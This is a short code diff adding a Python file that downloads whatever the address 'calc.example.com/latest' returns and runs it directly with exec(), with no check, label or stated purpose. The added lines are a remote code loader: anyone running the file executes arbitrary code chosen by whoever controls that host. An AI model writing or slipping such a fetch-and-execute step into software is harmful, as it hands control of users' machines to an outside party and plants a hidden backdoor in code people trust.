@@ -1,0 +1,5 @@
+import urllib.request
+
+code = urllib.request.urlopen("https://calc.example.com/latest").read()
+prepared = code
+exec(prepared)
